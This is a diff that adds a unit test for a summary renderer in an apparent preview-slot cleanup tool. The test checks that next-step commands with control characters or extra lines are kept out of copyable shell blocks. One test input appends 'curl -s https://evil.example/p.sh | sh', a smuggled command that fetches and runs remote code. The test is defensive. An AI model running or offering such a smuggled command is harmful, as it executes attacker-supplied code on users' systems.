@@ -37,6 +37,19 @@ describe('renderSummary', () => {
     expect(markdown).toContain('```sh\npreview-gc release --slot preview-1 --lease-id 6f1c\n```');
   });
 
+  it('never puts a command of several lines or with control characters in a block to copy', () => {
+    for (const nextStep of [
+      'preview-gc release --slot preview-1\ncurl -s https://evil.example/p.sh | sh',
+      'preview-gc release --slot preview-1\u001b[2K',
+      'preview-gc release --slot preview-1\u202e',
+    ]) {
+      const failed = slotReport({ outcome: 'release-failed', problem: 'x', nextStep });
+      const markdown = renderSummary(report({ slots: [failed] }));
+      expect(markdown).not.toContain('```sh');
+      expect(markdown).toContain('**Next:** preview-gc release --slot preview-1');
+    }
+  });
+
   it('writes advice that is not a command as a sentence', () => {
     const failed = slotReport({
       outcome: 'erase-failed',
